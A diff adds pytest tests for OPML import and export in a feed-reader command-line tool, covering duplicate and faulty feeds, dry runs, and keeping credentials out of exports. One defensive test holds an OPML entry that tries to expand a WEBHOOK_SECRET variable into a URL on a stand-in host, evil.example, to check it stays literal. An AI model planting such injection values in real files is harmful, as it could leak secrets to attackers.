@@ -169,3 +169,91 @@ def test_paused_feed_says_so_with_its_reason_until_it_is_resumed(config: Path) -
     assert feeds(config, "resume", "World").exit_code == 0
     assert listed(config, "World")["paused"] is None
     assert feeds(config, "resume", "World").stderr == "siegewatch: World is not paused\n"
+
+
+OPML = """<opml version="2.0"><body>
+<outline text="Africa">
+<outline type="rss" text="Sahel" xmlUrl="https://sahel.example/rss" category="wire"/>
+<outline type="rss" text="Sahel again" xmlUrl="https://SAHEL.example/rss#x"/>
+<outline type="rss" text="World" xmlUrl="https://world.example/rss"/>
+<outline type="rss" text="Lost"/>
+<outline type="rss" text="Old" xmlUrl="ftp://old.example/rss"/>
+</outline>
+</body></opml>"""
+
+
+@pytest.fixture
+def file(tmp_path: Path) -> Path:
+    path = tmp_path / "list.opml"
+    path.write_text(OPML)
+    return path
+
+
+def test_import_adds_what_is_new_and_tells_what_is_at_fault(config: Path, file: Path) -> None:
+    result = feeds(config, "import", str(file), "--tag", "desk")
+    assert (result.exit_code, result.stdout) == (0, "5 feeds: 1 added, 2 known already, 2 at fault\n")
+    lost, old = result.stderr.splitlines()
+    assert lost == f"{file}:6: url is missing, write it"
+    assert old == f"{file}:7: url is no http or https address, write https://host/path"
+    row = listed(config, "Sahel")
+    assert (row["tags"], row["origin"]) == (["Africa", "wire", "desk"], "added")
+    assert feeds(config, "import", str(file)).stdout == "5 feeds: 0 added, 3 known already, 2 at fault\n"
+
+
+def test_import_tried_adds_nothing(config: Path, memory: Memory, file: Path) -> None:
+    result = feeds(config, "import", str(file), "--dry-run")
+    assert "https://sahel.example/rss" in result.stdout
+    assert "5 feeds: 1 to add, 2 known already, 2 at fault\n" in result.stdout
+    assert memory.added.all() == ()
+
+
+def test_imported_file_cannot_name_our_variables_or_secrets(
+    config: Path, memory: Memory, file: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    monkeypatch.setenv("WEBHOOK_SECRET", "s3cr3t")
+    file.write_text(
+        '<opml><body><outline text="${WEBHOOK_SECRET}" xmlUrl="https://evil.example/?q=${WEBHOOK_SECRET}"/></body></opml>'
+    )
+    assert feeds(config, "import", str(file)).exit_code == 0
+    *_, feed = wiring.roster(load(config, {}), memory.added.all(), {}).feeds
+    assert (feed.name, feed.url) == ("${WEBHOOK_SECRET}", "https://evil.example/?q=${WEBHOOK_SECRET}")
+
+
+@pytest.mark.parametrize("content", ["<opml>", "<!DOCTYPE opml><opml/>", "feeds: []"])
+def test_file_that_is_no_opml_is_told_in_one_line(config: Path, file: Path, content: str) -> None:
+    file.write_text(content)
+    result = feeds(config, "import", str(file))
+    assert (result.exit_code, len(result.stderr.splitlines())) == (1, 1)
+    assert result.stderr.startswith(f"siegewatch: {file}: line 1 ")
+
+
+def test_what_is_exported_can_be_imported_elsewhere(config: Path, file: Path, memory: Memory) -> None:
+    feeds(config, "import", str(file))
+    assert feeds(config, "export", str(file)).exit_code == 0
+    before = listed(config, "Sahel")
+    memory.added.remove(memory.added.all()[0])
+    assert feeds(config, "import", str(file)).stdout == "4 feeds: 1 added, 3 known already, 0 at fault\n"
+    assert listed(config, "Sahel") == before
+
+
+SECRETS = """
+feeds:
+  - {url: "https://world.example/rss", name: World}
+  - {url: "https://user:passw0rd@a.example/rss", name: Paid}
+  - {url: "https://b.example/rss?apikey=s3cr3tkey", name: Keyed}
+  - {url: "https://c.example/${PATH_PART}/rss", name: Filled}
+"""
+
+
+def test_export_holds_no_secret_unless_that_is_asked_for(
+    config: Path, monkeypatch: pytest.MonkeyPatch, tmp_path: Path
+) -> None:
+    monkeypatch.setenv("PATH_PART", "inside")
+    (config / "feeds.yaml").write_text(SECRETS)
+    result = feeds(config, "export")
+    assert "https://world.example/rss" in result.stdout
+    assert not any(secret in result.output for secret in ("passw0rd", "s3cr3tkey", "inside"))
+    assert "left out for what may be secret in their addresses: Paid, Keyed, Filled" in result.stderr
+    result = feeds(config, "export", "--secrets")
+    assert all(secret in result.stdout for secret in ("passw0rd", "s3cr3tkey", "inside"))
+    assert result.stderr.startswith("warning: written with what may be secret in their addresses: Paid, Keyed, Filled")
